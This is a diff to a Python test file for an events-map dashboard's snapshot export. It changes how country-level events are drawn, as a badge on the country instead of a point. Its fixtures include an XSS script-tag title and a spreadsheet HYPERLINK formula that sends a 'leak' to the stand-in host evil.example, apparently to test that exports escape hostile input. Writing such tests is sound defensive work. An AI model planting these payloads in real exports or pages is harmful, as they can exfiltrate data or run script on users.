@@ -36,7 +36,7 @@ from dashboard.export import (
 )
 from dashboard.filters import ViewState
 from dashboard.layers import LAYERS
-from dashboard.mapping import CATEGORY_COLORS
+from dashboard.symbology import CATEGORY_COLORS
 
 HOSTILE_TITLE = "<script>alert(1)</script> talks"
 HOSTILE_QUOTE = '=HYPERLINK("http://evil.example/?leak","click me")'
@@ -76,7 +76,7 @@ def events():
         _feature("panjshir-province", 69.88, 35.52, category="armed_conflict", location_precision="province",
                  uncertainty_km=60, sources=[{"article": "art-a", "quote": "Fighting."},
                                              {"article": "art-b", "quote": "More."}]),
-        _feature("afghanistan-country", 66.5, 34.16, category="statement", location_precision="country",
+        _feature("afghanistan-country", 66.5, 34.16, category="statement", location_precision="country", country="AFG",
                  uncertainty_km=400, title=HOSTILE_TITLE,
                  sources=[{"article": "art-b", "quote": HOSTILE_QUOTE}]),
         _feature("dataset-row", 69.2, 34.5, category="attack", review_status="imported",
@@ -184,10 +184,13 @@ def test_markers_are_hollow_when_approximate_and_ringed_as_on_the_map(events):
     scatter = next(c for c in ax.collections if c.get_gid() == "snapshot-events")
     faces = [to_hex(c) for c in scatter.get_facecolors()]
     edges = [to_hex(c) for c in scatter.get_edgecolors()]
-    by_id = dict(zip(events["id"], zip(faces, edges)))
+    points = events[events["location_precision"] != "country"]
+    by_id = dict(zip(points["id"], zip(faces, edges)))
     assert by_id["dushanbe-city"] == (CATEGORY_COLORS["diplomacy"], CATEGORY_COLORS["diplomacy"])
     assert by_id["panjshir-province"] == ("#ffffff", CATEGORY_COLORS["armed_conflict"])
-    assert by_id["afghanistan-country"] == ("#ffffff", CATEGORY_COLORS["statement"])
+    # A country-level event is no point at all: it is counted on its country's badge.
+    assert "afghanistan-country" not in by_id and len(faces) == len(points)
+    assert _texts(fig, "snapshot-country-badge") == ["Afghanistan · 1"]
     rings = next(c for c in ax.collections if c.get_gid() == "snapshot-uncertainty")
     # rings: city 8 km, province 60 km, dataset city 8 km; not the site, not the 400 km country
     assert sorted(to_hex(c) for c in rings.get_edgecolors()) == sorted(
